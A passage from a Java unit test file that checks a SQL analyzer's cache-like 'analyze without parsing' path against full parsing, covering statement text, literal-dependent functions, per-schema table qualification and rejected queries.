      assertEquals(fresh.analyze("BEGIN; SET ROLE admin"), fresh.analyzeWithoutParsing("BEGIN; SET ROLE admin").orElseThrow());
    }

    @Test
    void aKnownShapeKeepsEachStatementsOwnText() {
      SqlAnalyzer fresh = SqlAnalyzer.postgres();
      fresh.analyze("SELECT balance FROM accounts WHERE id = 7");
      for (String sql : List.of("SELECT balance FROM accounts WHERE id = 8", "SELECT balance FROM accounts WHERE id = 9",
          "SELECT balance FROM accounts WHERE id = 10 /* again */")) {
        assertEquals(fresh.analyze(sql), fresh.analyzeWithoutParsing(sql).orElseThrow());
        assertEquals(sql, fresh.analyzeWithoutParsing(sql).orElseThrow().get(0).text());
      }
    }

    @Test
    void aShapeWhoseFactsDependOnALiteralIsNeverAnsweredWithoutTheParser() {
      SqlAnalyzer fresh = SqlAnalyzer.postgres();
      fresh.analyze("SELECT nextval('a')");
      fresh.analyze("SELECT nextval('a')");
      assertTrue(fresh.analyzeWithoutParsing("SELECT nextval('b')").isEmpty());
    }

    @Test
    void aKnownShapeIsQualifiedInEachSessionsOwnDatabase() {
      SqlAnalyzer shared = SqlAnalyzer.mysql();
      SqlAnalyzer shop = shared.withDefaultSchema("shop");
      SqlAnalyzer crm = shared.withDefaultSchema("crm");
      shop.analyze("SELECT name FROM customers WHERE id = 1");
      for (int i = 0; i < 3; i++) {
        assertEquals(List.of("shop.customers"),
            shop.analyzeWithoutParsing("SELECT name FROM customers WHERE id = 2").orElseThrow().get(0).tablesRead());
        assertEquals(List.of("crm.customers"),
            crm.analyzeWithoutParsing("SELECT name FROM customers WHERE id = 3").orElseThrow().get(0).tablesRead());
        assertEquals(List.of("customers"),
            shared.analyzeWithoutParsing("SELECT name FROM customers WHERE id = 4").orElseThrow().get(0).tablesRead());
      }
    }

    @Test
    void aShapeTheParserRejectedStaysUnknown() {
      SqlAnalyzer fresh = SqlAnalyzer.postgres();
      fresh.analyze("SELECT FROM WHERE (");
      assertUnknown(fresh.analyzeWithoutParsing("SELECT FROM WHERE (").orElseThrow().get(0));
    }
  }
}
